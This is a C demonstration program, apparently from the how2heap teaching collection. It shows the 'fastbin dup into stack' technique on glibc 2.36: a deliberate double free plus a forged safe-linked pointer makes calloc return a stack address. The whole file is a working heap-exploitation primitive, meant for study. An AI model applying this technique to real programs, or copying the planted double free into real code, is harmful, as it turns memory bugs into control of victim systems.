/* Fastbin dup into stack: double free, then the duplicated chunk's (safe-linked) fd is set to
 * a fake chunk on the stack.
 * Published: shellphish/how2heap, glibc_2.36/fastbin_dup_into_stack.c.
 * Primitive: double free -> calloc returns an attacker-chosen stack address. */
#include <stdint.h>
#include "common.h"

int main(void) {
    test_init();
    printf("fastbin dup into stack: double free, poison fd, calloc returns the stack\n");
    void *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(8);
    for (int i = 0; i < 7; i++)
        free(fill[i]);
    unsigned long stack_var[6] __attribute__((aligned(16))) = {0};
    int *a = calloc(1, 8), *b = calloc(1, 8), *c = calloc(1, 8);
    print_ptr("victim", a);
    free(a);
    free(b);
    free(a); /* BUG: double free */
    unsigned long *d = calloc(1, 8); /* a, while a is still on the fastbin */
    calloc(1, 8);                    /* b */
    stack_var[1] = 0x20;             /* fake chunk size */
    *d = ((unsigned long)(uintptr_t)d >> 12) ^ (unsigned long)(uintptr_t)stack_var;
    calloc(1, 8); /* a again: the stack chunk is now the fastbin head */
    void *p = calloc(1, 8);
    print_ptr("returned", p);
    if (p == &stack_var[2])
        printf("ATTACK SUCCEEDED: calloc returned the attacker's stack address\n");
    else
        printf("attack failed: calloc returned a fresh object (%p)\n", (void *)c);
    return 0;
}
